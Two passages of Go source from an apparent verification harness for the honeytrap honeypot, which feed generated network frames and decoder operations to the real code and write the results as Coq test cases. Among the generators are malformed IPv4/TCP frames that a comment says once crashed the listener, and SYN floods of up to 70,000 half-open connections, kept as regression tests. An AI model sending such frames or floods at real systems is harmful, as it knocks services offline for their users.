	ob.Stderr = strings.Join(fns, " <- ")
	return ob, ""
}

// ---- history generation

type peer struct {
	ip [4]byte
}

var (
	peerArp   = [4]byte{10, 0, 0, 5}   // always in the ARP cache
	peerRoute = [4]byte{10, 9, 0, 7}   // behind 10.9.0.0/16 -> gateway
	peerLost  = [4]byte{172, 16, 3, 9} // neither (unless a default route exists)
	gwOK      = [4]byte{10, 0, 0, 1}
	gwMissing = [4]byte{10, 0, 0, 254}
)

func ipFrame(proto int, src, dst [4]byte, payload []byte) []byte {
	return ethFrame(0x0800, ipHeader(ipOpt{ihl: 5, totLen: -1, proto: proto, src: src, dst: dst}, payload))
}

func probeFrame(id int) ([]byte, UEvent) {
	payload := []byte(fmt.Sprintf("c02-probe-%06d", id))
	sport, dport := 40000+id%20000, 30000+id%1000
	f := ipFrame(17, peerArp, ipMe, udpSeg(sport, dport, -1, payload))
	return f, UEvent{Src: ip4val(net.IP(peerArp[:])), Dst: ip4val(net.IP(ipMe[:])), SPort: sport, DPort: dport, Payload: hx.B(payload)}
}

func maybeMe(r *hx.Rand) [4]byte {
	if r.Chance(1, 6) {
		return [4]byte{192, 0, 2, 1}
	}
	return ipMe
}

type histGen struct {
	needChild bool // a decoder goroutine runs: child process
	r       *hx.Rand
	synned  [][3]int // (peer index, sport, dport) of SYNs sent so far
	peers   [][4]byte
}

func (g *histGen) benign() []byte {
	r := g.r
	src := g.peers[r.Intn(len(g.peers))]
	switch r.Intn(16) {
	case 0, 1: // UDP to me, default handler
		return ipFrame(17, src, ipMe, udpSeg(r.Range(1024, 65535), r.PickInt([]int{7, 69, 500, 4000, 31337, 65535}), -1, r.Bytes(r.PickInt([]int{0, 1, 20, 300}))))
	case 2: // UDP to a decoder port (goroutine with recover), garbage payload
		g.needChild = true
		return ipFrame(17, src, ipMe, udpSeg(r.Range(1024, 65535), r.PickInt([]int{53, 123, 1900, 5060, 161, 162}), -1, r.Bytes(r.PickInt([]int{0, 3, 12, 48, 100}))))
	case 3: // UDP not for me / wrong length
		if r.Bool() {
			return ipFrame(17, src, [4]byte{192, 0, 2, 1}, udpSeg(1, 2, -1, []byte("x")))
		}
		return ipFrame(17, src, ipMe, udpSeg(5, 6, r.PickInt([]int{0, 7, 9, 100}), []byte("yy")))
	case 4: // ICMP
		ic := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, r.Bytes(8)...)
		return ipFrame(1, src, maybeMe(r), ic[:r.PickInt([]int{4, 8, 8, 12, 16})])
	case 5, 6, 7: // pure SYN (answered with SYN-ACK)
		pi := r.Intn(len(g.peers))
		sport, dport := r.Range(1024, 40000), r.PickInt([]int{21, 23, 80, 443, 8080, 22, 6379})
		if r.Chance(1, 8) {
			sport = 22
		}
		g.synned = append(g.synned, [3]int{pi, sport, dport})
		var rest []byte
		off := 5
		if r.Chance(1, 3) { // MSS + NOP NOP SACK-permitted
			rest, off = []byte{2, 4, 5, 180, 1, 1, 4, 2}, 7
		}
		seg := tcpSeg(sport, dport, uint32(r.U64()), 0, off, fSYN, rest)
		if r.Bool() {
			fixTCPChecksum(seg, g.peers[pi], ipMe)
		}
		dst := ipMe
		if r.Chance(1, 10) {
			dst = [4]byte{192, 0, 2, 1}
		}
		return ipFrame(6, g.peers[pi], dst, seg)
	case 8, 9: // segment on a connection that got a SYN: SYN retransmission, SYN+ACK, RST, no-ACK
		if len(g.synned) == 0 {
			return ipFrame(6, src, ipMe, tcpSeg(50001, 80, 1, 1, 5, fACK, nil))
		}
		s := g.synned[r.Intn(len(g.synned))]
		fl := r.PickInt([]int{fSYN | fACK, fRST, fRST | fACK, fPSH, fFIN, 0, fSYN | fACK | fRST})
		return ipFrame(6, g.peers[s[0]], ipMe, tcpSeg(s[1], s[2], uint32(r.U64()), uint32(r.U64()), 5, fl, nil))
	case 10: // ACK for a connection that does not exist (ports never used by SYNs)
		return ipFrame(6, src, ipMe, tcpSeg(r.Range(50000, 60000), r.Range(50000, 60000), 1, 1, 5, r.PickInt([]int{fACK, fACK | fPSH, fACK | fFIN}), r.Bytes(r.Intn(5))))
	case 11: // TCP with a bad data offset: error (valid checksum) or continues (invalid checksum)
		seg := tcpSeg(r.Range(1024, 40000), 80, 5, 0, r.PickInt([]int{0, 4, 15, 9}), r.PickInt([]int{fSYN, fACK, fRST}), r.Bytes(r.Intn(4)))
		if r.Bool() {
			fixTCPChecksum(seg, src, ipMe)
		}
		if seg[13]&fSYN != 0 {
			// a pure SYN with an invalid checksum still opens a connection
			for i, p := range g.peers {
				if p == src {
					g.synned = append(g.synned, [3]int{i, int(seg[0])<<8 | int(seg[1]), 80})
				}
			}
		}
		return ipFrame(6, src, ipMe, seg)
	case 12: // not IPv4: ARP (also the layout on which arp.Unmarshal itself would fail), IPv6, junk
		a := make([]byte, 28)
		a[4], a[5] = 20, 20
		return ethFrame(r.PickInt([]int{0x0806, 0x0806, 0x86dd, 0x8100, 0}), append(a, r.Bytes(r.Intn(30))...))
	case 13: // IPv4 with odd header fields that the parser accepts or rejects with an error
		p := udpSeg(9, 4000, -1, []byte("ihl"))
		o := ipOpt{ihl: r.PickInt([]int{0, 1, 4, 6, 15}), totLen: -1, proto: 17, src: src, dst: ipMe}
		if r.Chance(1, 3) {
			o.totLen = r.PickInt([]int{20, 21, 27, 28, 1000, 65535})
		}
		return ethFrame(0x0800, ipHeader(o, p))
	case 14: // truncated: ethernet header only / partial IPv4 header
		return ethFrame(0x0800, r.Bytes(r.PickInt([]int{0, 1, 19})))
	default: // other protocols, random bytes
		if r.Bool() {
			return ipFrame(r.PickInt([]int{2, 47, 50, 132, 255, 0}), src, ipMe, r.Bytes(r.Intn(40)))
		}
		return r.Bytes(r.PickInt([]int{14, 15, 33, 34, 60, 200, 1600}))
	}
}

// bad: frames of the three malformed-frame classes that used to terminate the listener
// (repaired by a545d57 and eb7aa9c); they must now be dropped like any other frame.
func (g *histGen) bad() ([]byte, string) {
	r := g.r
	src := g.peers[r.Intn(len(g.peers))]
	switch r.Intn(4) {
	case 0:
		o := ipOpt{ihl: r.PickInt([]int{5, 5, 0, 6}), totLen: r.PickInt([]int{0, 1, 19, 10}), proto: r.PickInt([]int{6, 17, 1}), src: src, dst: ipMe}
		return ethFrame(0x0800, ipHeader(o, r.Bytes(r.Intn(12)))), "ipv4-total-length"
	case 1:
		return ipFrame(6, src, maybeMe(r), r.Bytes(r.PickInt([]int{0, 1, 12, 13, 19}))), "tcp-short"
	case 2:
		opts := [][]byte{{1, 1, 1, 2}, {1, 1, 1, 255}, {3, 3, 7, 8}, {2, 4, 5, 180, 1, 1, 1, 4}}[r.Intn(4)]
		seg := tcpSeg(r.Range(1024, 40000), 80, 1, 0, 5+len(opts)/4, r.PickInt([]int{fSYN, fACK, 0}), opts)
		if r.Bool() {
			fixTCPChecksum(seg, src, ipMe)
		}
		return ipFrame(6, src, maybeMe(r), seg), "tcp-option"
	default:
		return nil, ""
	}
}

func genHist(r *hx.Rand, id int, mode string) HistIn {
	in := HistIn{Mode: mode}
	g := &histGen{r: r, peers: [][4]byte{peerArp, peerRoute, peerLost}}
	in.Arp = [][4]byte{peerArp, gwOK}
	// route tables: with and without an entry that leads to each peer
	switch r.Intn(6) {
	case 0: // nothing: peerRoute and peerLost are unanswerable
		in.Note = "no routes"
	case 1: // specific route with a known gateway; peerLost unanswerable
		in.Routes = []RouteIn{{Dest: [4]byte{10, 9, 0, 0}, Mask: [4]byte{255, 255, 0, 0}, Gw: gwOK}}
	case 2, 3: // default route with a known gateway: every peer answerable
		in.Routes = []RouteIn{{Dest: [4]byte{10, 9, 0, 0}, Mask: [4]byte{255, 255, 0, 0}, Gw: gwOK}, {Dest: [4]byte{0, 0, 0, 0}, Mask: [4]byte{0, 0, 0, 0}, Gw: gwOK}}
	case 4: // first matching route has a gateway without ARP entry (the later default route is never consulted)
		in.Routes = []RouteIn{{Dest: [4]byte{10, 9, 0, 0}, Mask: [4]byte{255, 255, 0, 0}, Gw: gwMissing}, {Dest: [4]byte{0, 0, 0, 0}, Mask: [4]byte{0, 0, 0, 0}, Gw: gwOK}}
	default: // every peer has its own ARP entry
		in.Arp = append(in.Arp, peerRoute, peerLost)
	}
	n := r.Range(1, 14)
	withBad := r.Chance(1, 5)
	badAt := r.Intn(n)
	for i := 0; i < n; i++ {
		if withBad && i == badAt {
			if f, note := g.bad(); f != nil {
				in.Frames = append(in.Frames, hx.B(f))
				in.Note += " +" + note
				continue
			}
		}
		in.Frames = append(in.Frames, hx.B(g.benign()))
	}
	pf, pe := probeFrame(id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	in.Child = g.needChild
	return in
}

// corpus histories: the smallest form of every formerly fatal class (regression corpus)
func corpusHists(mode string) []HistIn {
	allArp := [][4]byte{peerArp, gwOK}
	mk := func(id int, note string, arp [][4]byte, routes []RouteIn, frames ...[]byte) HistIn {
		in := HistIn{Mode: mode, Arp: arp, Routes: routes, Note: "corpus:" + note, Child: true}
		for _, f := range frames {
			in.Frames = append(in.Frames, hx.B(f))
		}
		pf, pe := probeFrame(900000 + id)
		in.Frames = append(in.Frames, hx.B(pf))
		in.Probe = pe
		return in
	}
	syn := func(src [4]byte, sport int) []byte {
		return ipFrame(6, src, ipMe, tcpSeg(sport, 80, 1000, 0, 5, fSYN, nil))
	}
	arpBad := make([]byte, 28)
	arpBad[4], arpBad[5] = 20, 20
	return []HistIn{
		mk(0, "benign mix", allArp, nil,
			ipFrame(17, peerArp, ipMe, udpSeg(1111, 4000, -1, []byte("hello"))),
			ethFrame(0x0806, arpBad),
			syn(peerArp, 2000), syn(peerArp, 2000),
			ipFrame(6, peerArp, ipMe, tcpSeg(2000, 80, 1, 1, 5, fRST, nil)),
			ipFrame(1, peerArp, ipMe, []byte{8, 0, 0, 0, 0, 1, 0, 1}),
			ipFrame(17, peerArp, ipMe, udpSeg(1111, 53, -1, []byte{1, 2, 3})),
			ethFrame(0x0800, []byte{0x45, 0}),
			ipFrame(6, peerArp, ipMe, tcpSeg(2001, 80, 1, 0, 4, fSYN, nil))),
		mk(1, "ipv4 total length 0", allArp, nil,
			ethFrame(0x0800, ipHeader(ipOpt{ihl: 5, totLen: 0, proto: 17, src: peerArp, dst: ipMe}, nil))),
		mk(2, "tcp segment of 10 bytes", allArp, nil, ipFrame(6, peerArp, ipMe, make([]byte, 10))),
		mk(3, "tcp option kind 2 as last option byte", allArp, nil,
			ipFrame(6, peerArp, ipMe, tcpSeg(3000, 80, 1, 0, 6, fSYN, []byte{1, 1, 1, 2}))),
		mk(4, "SYN from a peer with neither ARP nor route entry", allArp, nil, syn(peerLost, 4000)),
		mk(5, "SYN from a peer whose first matching route has an unknown gateway", allArp,
			[]RouteIn{{Dest: [4]byte{10, 9, 0, 0}, Mask: [4]byte{255, 255, 0, 0}, Gw: gwMissing}, {Mask: [4]byte{0, 0, 0, 0}, Gw: gwOK}},
			syn(peerRoute, 4001)),
	}
}

func floodHist(mode string, n int, id int) HistIn {
	in := HistIn{Mode: mode, Arp: [][4]byte{peerArp, gwOK}, Rep: n, Note: fmt.Sprintf("flood of %d half-open connections", n)}
	in.Frames = append(in.Frames, hx.B(ipFrame(6, peerArp, ipMe, tcpSeg(5000, 80, 77, 0, 5, fSYN, nil))))
	pf, pe := probeFrame(800000 + id)
	in.Frames = append(in.Frames, hx.B(pf))
	in.Probe = pe
	return in
}

// ---- Coq rendering

func ipZ(a [4]byte) string { return hx.CoqZ(int64(a[0])<<24 | int64(a[1])<<16 | int64(a[2])<<8 | int64(a[3])) }

func coqEv(e UEvent) string {
	return fmt.Sprintf("(mkEv %s %s %s %s %s)", hx.CoqZ(e.Src), hx.CoqZ(e.Dst), hx.CoqZ(int64(e.SPort)), hx.CoqZ(int64(e.DPort)), hx.CoqBytes(e.Payload))
}

func coqHist(id int, in HistIn, ob HistObs) string {
	var arps, routes, frames, evs []string
	for _, a := range in.Arp {
		arps = append(arps, ipZ(a))
	}
	for _, ro := range in.Routes {
		routes = append(routes, fmt.Sprintf("mkRoute %s %s %s", ipZ(ro.Dest), ipZ(ro.Mask), ipZ(ro.Gw)))
	}
	rest := in.Frames
	if in.Compact {
		rest = in.Frames[len(in.Frames)-1:]
		var only []UEvent
		for _, e := range ob.Events {
			if evKey(e) == evKey(in.Probe) {
				only = append(only, e)
			}
		}
		ob.Events = only
		ob.Count, ob.Rets, ob.Tx, ob.FatalAt = -1, nil, -1, -1
		if ob.Fatal == 0 {
			ob.Rets = []int64{0} // the probe itself
		}
	}
	for i, f := range rest {
		t := int64(0)
		k := i
		if in.Rep > 0 {
			k = i - 1
		}
		if k >= 0 && k < len(ob.Times) {
			t = ob.Times[k]
		}
		frames = append(frames, fmt.Sprintf("(%s, %s)", hx.CoqZ(t), hx.CoqBytes(f)))
	}
	for _, e := range ob.Events {
		evs = append(evs, coqEv(e))
	}
	cfg := fmt.Sprintf("(mkCfg [%s] %s %s 65535)", ipZ(ipMe), hx.CoqList(arps, "Z"), hx.CoqList(routes, "route"))
	mode := 0
	if in.Mode == "loop" {
		mode = 1
	}
	return fmt.Sprintf("mkH %s %s %s %s %s\n      %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqZ(int64(mode)), cfg, hx.CoqZ(int64(in.Rep)), hx.CoqZ(ob.SpanMs),
		hx.CoqList(frames, "(Z * bytes)"), coqEv(in.Probe),
		hx.CoqZ(int64(ob.Fatal)), hx.CoqZ(int64(ob.FatalAt)), coqZs(ob.Rets), hx.CoqList(evs, "uevent"), hx.CoqZ(int64(ob.Count)), hx.CoqZ(int64(ob.Tx)))
}

func main() {
	if len(os.Args) == 3 && os.Args[1] == "-child" {
		childMain(os.Args[2])
		return
	}
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)

	type replayIn struct {
		Part  string   `json:"part"`
		Parse *ParseIn `json:"parse,omitempty"`
		Hist  *HistIn  `json:"hist,omitempty"`
		Table *TableIn `json:"table,omitempty"`
	}
	var pins []ParseIn
	var hins []HistIn
	var tins []TableIn
	if o.Only != "" {
		var in replayIn
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		if in.Parse != nil {
			pins = []ParseIn{*in.Parse}
		}
		if in.Hist != nil {
			hins = []HistIn{*in.Hist}
		}
		if in.Table != nil {
			tins = []TableIn{*in.Table}
		}
	} else {
		pins = genParse(r, o.Tier)
		pins = append(pins, icmpParseSweep(r, o.Tier)...)
		hins = append(hins, corpusHists("inject")...)
		hins = append(hins, corpusHists("loop")...)
		nh := 200
		nloop := 6
		nconn, nconnLoop := 60, 6
		ntsmall, ntfull := 80, 4
		switch o.Tier {
		case "thorough":
			nh, nloop = 2500, 40
			nconn, nconnLoop = 600, 40
			ntsmall, ntfull = 800, 16
		case "search":
			nh, nloop = 1200, 12
			nconn, nconnLoop = 300, 12
			ntsmall, ntfull = 400, 8
		}
		hins = append(hins, corpusConn("inject", 1), corpusConn("loop", 2))
		for i := 0; i < nconn; i++ {
			hins = append(hins, genConn(r, i, "inject"))
		}
		for i := 0; i < nconnLoop; i++ {
			hins = append(hins, genConn(r, 50000+i, "loop"))
		}
		// decoder goroutines and the knock detector (child processes)
		batch := 24
		hins = append(hins, udpDecoderHists(r, o.Tier, batch)...)
		hins = append(hins, tcpDecoderHists(r, o.Tier)...)
		hins = append(hins, sweepHists(r, o.Tier)...)
		hins = append(hins, optionHists(r, o.Tier)...)
		sizes := []int{1, 1023, 1024, 1025, 5000}
		hins = append(hins, scanHist("tcp", sizes, 1), scanHist("udp", sizes, 2))
		if o.Tier == "thorough" {
			hins = append(hins, scanHist("tcp", []int{65535}, 3), scanHist("udp", []int{65535}, 4))
		}
		for v := 0; v < ntfull; v++ {
			tins = append(tins, genTableFull(r, v%4))
		}
		for i := 0; i < ntsmall; i++ {
			tins = append(tins, genTableSmall(r))
		}
		for i := 0; i < nh; i++ {
			hins = append(hins, genHist(r, i, "inject"))
		}
		for i := 0; i < nloop; i++ {
			hins = append(hins, genHist(r, 100000+i, "loop"))
		}
		// connection floods: below the table size in every tier (cheap), beyond it in the thorough tier
		hins = append(hins, floodHist("inject", 300, 1))
		// one more SYN than slots through the real handlers in every tier (child process,
		// runs beside everything else)
		hins = append(hins, floodHist("inject", tableCap+3, 5))
		if o.Tier == "thorough" {
			hins = append(hins, floodHist("inject", 70000, 2), floodHist("loop", 70000, 3), floodHist("loop", 65535, 4))
		}
	}

	// part "parse"
	pdist := map[string]int{}
	var pcases []hx.Case
	for i, in := range pins {
		ob := runParse(in)
		pdist["parser:"+parserNames[in.Parser]]++
		pdist[fmt.Sprintf("class:%s:%d", parserNames[in.Parser], ob.Class)]++
		if in.Note != "" {
			pdist["gen:"+strings.SplitN(in.Note, ":", 2)[0]]++
			if strings.HasPrefix(in.Note, "tcp-options-many:") {
				pdist["family:"+in.Note[len("tcp-options-many:"):]]++
			}
		}
		if in.Parser == pTCP && len(ob.Proj) > 4 {
			pdist[fmt.Sprintf("tcp-option-entries:%02d", ob.Proj[4])]++
		}
		pcases = append(pcases, hx.Case{ID: i, Kind: "parse-" + parserNames[in.Parser],
			Input: replayIn{Part: "parse", Parse: &pins[i]}, Obs: ob, Coq: coqParse(i, in, ob)})
	}
	if len(pins) > 0 || o.Only == "" {
		hx.Write(o, "C02", "parse", "From HT Require Import Common.Bytes C02.Model C02.Check.\n"+
			"Definition case := pcase.\nDefinition mismatches := p_mismatches.\nDefinition violations := p_violations.\nDefinition tags := p_tags.",
			"case", pcases, pdist, nil, 250)
	}

	// part "hist"
	hdist := map[string]int{}
	var hcases []hx.Case
	// child-process cases run beside the in-process ones
	slow := 0
	hobs := make([]HistObs, len(hins))
	hcrash := make([]string, len(hins))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 6)
	isChild := func(in HistIn) bool { return in.Mode == "loop" || in.Rep > 1000 || in.Child }
	for i := range hins {
		if isChild(hins[i]) {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				sem <- struct{}{}
				hobs[i], hcrash[i] = runChild(hins[i], o.Out, i)
				<-sem
				if hobs[i].Fatal != 0 && hobs[i].Fatal != siteHang {
					// the process died: find a single frame that does it, for the replay
					if sin, sob, ok := shrinkDeath(hins[i], o.Out, i); ok {
						hins[i], hobs[i] = sin, sob
					}
				}
			}(i)
		}
	}
	// table histories (in-process, independent tables) also run beside
	tobs := make([]TableObs, len(tins))
	tsem := make(chan struct{}, 4)
	for i := range tins {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			tsem <- struct{}{}
			tobs[i] = runTable(tins[i])
			<-tsem
		}(i)
	}
	for i := range hins {
		if !isChild(hins[i]) {
			t0 := time.Now()
			hobs[i] = runInject(hins[i])
			if d := time.Since(t0); d > 3*time.Second {
				slow++
				if os.Getenv("C02_DEBUG") != "" {
					fmt.Fprintf(os.Stderr, "slow case %d (%s): %v\n", i, hins[i].Note, d)
				}
			}
		}
	}
	wg.Wait()
	for i := range hins {
		in := hins[i]
		ob, crash := hobs[i], hcrash[i]
		hdist["mode:"+in.Mode]++
		hdist[fmt.Sprintf("routes:%d", len(in.Routes))]++
		hdist[fmt.Sprintf("arp-entries:%d", len(in.Arp))]++
		hdist[fmt.Sprintf("fatal-site:%d", ob.Fatal)]++
		if in.Rep > 0 {
			hdist["flood"]++
		}
		fl := len(in.Frames)
		switch {
		case fl <= 2:
			hdist["frames:1"]++
		case fl <= 6:
			hdist["frames:2-5"]++
		default:
			hdist["frames:6+"]++
		}
		if in.Compact {
			var only []UEvent
			for _, e := range ob.Events {
				if evKey(e) == evKey(in.Probe) {
					only = append(only, e)
				}
			}
			hdist["scan-udp-events-seen"] += len(ob.Events)
			hdist["scan-portscan-reports-seen"] += ob.Portscans
			ob.Events = only
		}
		kind := "hist-" + in.Mode
		if strings.HasPrefix(in.Note, "decoder-") {
			hdist["decoder-histories"]++
			hdist["decoder-frames"] += len(in.Frames) - 1
		}
		if in.Rep > 0 {
			kind = "flood-" + in.Mode
		} else if in.Compact {
			kind = "scan-" + in.Mode
		} else if strings.HasPrefix(in.Note, "sweep-") {
			kind = "sweep-" + in.Mode
			hdist["sweep-frames"] += len(in.Frames) - 1
		} else if strings.HasPrefix(in.Note, "decoder-") {
			kind = in.Note[:11] + "-" + in.Mode // decoder-udp / decoder-tcp
		} else if len(in.Steps) > 0 {
			kind = "conn-" + in.Mode
			hdist["connection-histories"]++
		}
		hcases = append(hcases, hx.Case{ID: i, Kind: kind, Input: replayIn{Part: "hist", Hist: &hins[i]}, Obs: ob, Crash: crash, Coq: coqHist(i, in, ob)})
	}
	hdist["slow-cases-over-3s"] = slow
	if len(hins) > 0 || o.Only == "" {
		hx.Write(o, "C02", "hist", "From HT Require Import Common.Bytes C02.Model C02.Check.\n"+
			"Definition case := hcase.\nDefinition mismatches := h_mismatches.\nDefinition violations := h_violations.\nDefinition tags := h_tags.",
			"case", hcases, hdist, nil, 40)
	}

	// part "table"
	tdist := map[string]int{}
	var tcases []hx.Case
	for i := range tins {
		ob := tobs[i]
		note := tins[i].Note
		if ob.DurationMs > tableBudgetMs && ob.PanicAt < 0 {
			// the expectation "a fresh entry is not idle" is only valid while the history
			// took less than the 30 s idle limit (a loaded machine can exceed it): only the
			// operations completed within the budget are judged, the rest is inconclusive
			k := 0
			for k < len(ob.Ends) && ob.Ends[k] <= tableBudgetMs {
				k++
			}
			tdist["inconclusive-timing-ops"] += len(tins[i].Ops) - k
			if k == 0 {
				tdist["inconclusive-timing-cases"]++
				continue
			}
			tins[i].Ops = tins[i].Ops[:k]
			ob.Obs, ob.Times, ob.Ends = ob.Obs[:k], ob.Times[:k], ob.Ends[:k]
			tins[i].Note = note
		}
		tdist["kind:"+note]++
		tdist["ops"] += len(tins[i].Ops)
		if ob.PanicAt >= 0 {
			tdist["panic"]++
		}
		tcases = append(tcases, hx.Case{ID: i, Kind: "table-" + note, Input: replayIn{Part: "table", Table: &tins[i]}, Obs: ob, Coq: coqTable(i, tins[i], ob)})
	}
	if len(tins) > 0 || o.Only == "" {
		hx.Write(o, "C02", "table", "From HT Require Import Common.Bytes C02.Model C02.Check.\n"+
			"Definition case := tcase.\nDefinition mismatches := t_mismatches.\nDefinition violations := t_violations.\nDefinition tags := t_tags.",
			"case", tcases, tdist, nil, 30)
	}
}
