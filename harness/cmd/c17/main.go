// C17 harness: runs the real services/decoder (and ipp) on generated inputs and
// writes the observations as Coq case files.
package main

import (
	"fmt"
	"os"

	"github.com/honeytrap/honeytrap/services/decoder"
	"verif/harness/hx"
)

type Op struct {
	Name string `json:"op"`
	N    int64  `json:"n,omitempty"`
}

type Obs struct {
	Kind  string `json:"kind"` // num | bytes | unit
	Num   int64  `json:"num,omitempty"`
	Bytes hx.B   `json:"bytes,omitempty"`
	Avail int    `json:"avail"`
	Err   bool   `json:"err"`
}

type DecInput struct {
	Data hx.B `json:"data"`
	Ops  []Op   `json:"ops"`
}

var prims = []string{"Byte", "Int16", "Int32", "Uint32", "PeekByte", "PeekInt16"}

func runDecoder(in DecInput) []*Obs {
	d := decoder.NewDecoder(append([]byte(nil), in.Data...))
	var out []*Obs
	for _, op := range in.Ops {
		o, ok := callOp(d, op)
		if !ok {
			out = append(out, nil)
			break
		}
		o.Avail = d.Available()
		o.Err = d.LastError() != nil
		out = append(out, o)
	}
	return out
}

func callOp(d *decoder.Decode, op Op) (o *Obs, ok bool) {
	defer func() {
		if r := recover(); r != nil {
			o, ok = nil, false
		}
	}()
	switch op.Name {
	case "Byte":
		return &Obs{Kind: "num", Num: int64(d.Byte())}, true
	case "Int16":
		return &Obs{Kind: "num", Num: int64(d.Int16())}, true
	case "Int32":
		return &Obs{Kind: "num", Num: int64(d.Int32())}, true
	case "Uint32":
		return &Obs{Kind: "num", Num: int64(d.Uint32())}, true
	case "PeekByte":
		return &Obs{Kind: "num", Num: int64(d.PeekByte())}, true
	case "PeekInt16":
		return &Obs{Kind: "num", Num: int64(d.PeekInt16())}, true
	case "Copy":
		return &Obs{Kind: "bytes", Bytes: d.Copy(int(op.N))}, true
	case "Seek":
		d.Seek(int(op.N))
		return &Obs{Kind: "unit"}, true
	case "Data":
		return &Obs{Kind: "bytes", Bytes: []byte(d.Data())}, true
	case "Avail":
		return &Obs{Kind: "num", Num: int64(d.Available())}, true
	case "HasBytes":
		if d.HasBytes(int(op.N)) == nil {
			return &Obs{Kind: "num", Num: 1}, true
		}
		return &Obs{Kind: "num", Num: 0}, true
	}
	panic("unknown op " + op.Name)
}

func coqOp(op Op) string {
	switch op.Name {
	case "Copy":
		return "OCopy " + hx.CoqZ(op.N)
	case "Seek":
		return "OSeek " + hx.CoqZ(op.N)
	case "HasBytes":
		return "OHasBytes " + hx.CoqZ(op.N)
	case "Avail":
		return "OAvail"
	}
	return "O" + op.Name
}

func coqObs(o *Obs) string {
	if o == nil {
		return "(@None obs)"
	}
	var v string
	switch o.Kind {
	case "num":
		v = "VNum " + hx.CoqZ(o.Num)
	case "bytes":
		v = "VBytes " + hx.CoqBytes(o.Bytes)
	default:
		v = "VUnit"
	}
	return fmt.Sprintf("(Some (mkObs (%s) %s %s))", v, hx.CoqZ(int64(o.Avail)), hx.CoqBool(o.Err))
}

func coqDecCase(id int, in DecInput, obs []*Obs) string {
	ops := make([]string, len(in.Ops))
	for i, op := range in.Ops {
		ops[i] = coqOp(op)
	}
	os := make([]string, len(obs))
	for i, o := range obs {
		os[i] = coqObs(o)
	}
	return fmt.Sprintf("mkCase %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqBytes(in.Data),
		hx.CoqList(ops, "op"), hx.CoqList(os, "(option obs)"))
}

var byteAlphabet = []byte{0x00, 0x01, 0x02, 0x7f, 0x80, 0xff, 0xfe, 0x03}

func genOp(r *hx.Rand) Op {
	switch k := r.Intn(20); {
	case k < 8:
		return Op{Name: prims[r.Intn(len(prims))]}
	case k < 11:
		return Op{Name: "Copy", N: genN(r)}
	case k < 14:
		return Op{Name: "Seek", N: genN(r)}
	case k < 17:
		return Op{Name: "Data"}
	case k < 18:
		return Op{Name: "Avail"}
	default:
		return Op{Name: "HasBytes", N: genN(r)}
	}
}

func genN(r *hx.Rand) int64 {
	if r.Chance(1, 25) {
		big := []int64{1 << 31, -(1 << 31), 1 << 40, -(1 << 40), 1<<62 - 1, -(1 << 62), 65535, 32768, -32768}
		return big[r.Intn(len(big))]
	}
	return int64(r.Range(-3, 8))
}

func genDecCases(o hx.Opts, r *hx.Rand) []DecInput {
	var ins []DecInput
	// corpus: witnesses of earlier findings run first
	ins = append(ins,
		DecInput{Data: []byte{1, 2, 3}, Ops: []Op{{Name: "Byte"}, {Name: "Byte"}, {Name: "Copy", N: -1}}},
		DecInput{Data: []byte{0xff, 0xff}, Ops: []Op{{Name: "Data"}}},
		DecInput{Data: []byte{0x80, 0x00, 9}, Ops: []Op{{Name: "Data"}, {Name: "Byte"}}},
		DecInput{Data: []byte{1, 2, 3, 4, 5, 6}, Ops: []Op{{Name: "Seek", N: 3}, {Name: "Copy", N: -3}, {Name: "Int16"}}},
		DecInput{Data: []byte{0xff, 0xfe, 0x80, 0x00}, Ops: []Op{{Name: "PeekInt16"}, {Name: "Int16"}, {Name: "Int16"}, {Name: "Int16"}}},
		DecInput{Data: []byte{0x80, 0, 0, 1, 0xff, 0xff, 0xff, 0xff}, Ops: []Op{{Name: "Int32"}, {Name: "Uint32"}, {Name: "Byte"}}},
	)
	if o.Tier != "quick" {
		// exhaustive small domain: every operation sequence of length <= 2 over the 31
		// operations {6 primitives, Copy(n), Seek(n) for n in -3..8, Data} on fixed buffers
		// of length 0..6 (thorough: 8 buffers; search: 3)
		var alphabet []Op
		for _, p := range prims {
			alphabet = append(alphabet, Op{Name: p})
		}
		for nn := int64(-3); nn <= 8; nn++ {
			alphabet = append(alphabet, Op{Name: "Copy", N: nn}, Op{Name: "Seek", N: nn})
		}
		alphabet = append(alphabet, Op{Name: "Data"})
		bufs := [][]byte{{}, {0x80}, {0x00, 0x02}, {0xff, 0xff, 0x01}, {0x00, 0x01, 0x7f, 0x80}, {1, 2, 3, 4, 5}, {0x80, 0x00, 0x00, 0x03, 9, 9}, {0x00, 0x04, 1, 2, 3, 4}}
		if o.Tier == "search" {
			bufs = bufs[3:6]
		}
		for _, b := range bufs {
			for _, a := range alphabet {
				ins = append(ins, DecInput{Data: b, Ops: []Op{a}})
				for _, c := range alphabet {
					ins = append(ins, DecInput{Data: b, Ops: []Op{a, c}})
				}
			}
		}
	}
	n := 700
	if o.Tier != "quick" {
		n = 6000
	}
	for i := 0; i < n; i++ {
		var in DecInput
		ln := r.Range(0, 6)
		if r.Chance(1, 12) {
			ln = r.Range(7, 40)
		}
		if r.Chance(1, 3) {
			in.Data = r.Bytes(ln)
		} else {
			in.Data = r.BytesFrom(ln, byteAlphabet)
		}
		nops := r.Range(1, 4)
		if r.Chance(1, 10) {
			nops = r.Range(5, 14)
		}
		for j := 0; j < nops; j++ {
			in.Ops = append(in.Ops, genOp(r))
		}
		ins = append(ins, in)
	}
	return ins
}

func main() {
	if os.Getenv("C17_IPP_CHILD") == "1" { // part "ipp": request handler process, see ipp.go
		ippChildMain()
		return
	}
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)

	var ins []DecInput
	if o.Only != "" {
		var ipp IppInput
		if err := hx.LoadReplay(o.Only, &ipp); err == nil && ipp.Part == "ipp" {
			runIppPart(o, r, &ipp)
			return
		}
		var in DecInput
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			panic(err)
		}
		ins = []DecInput{in}
	} else {
		defer runIppPart(o, hx.NewRand(o.Seed^0x1bb17), nil)
		ins = genDecCases(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		obs := runDecoder(in)
		for _, op := range in.Ops {
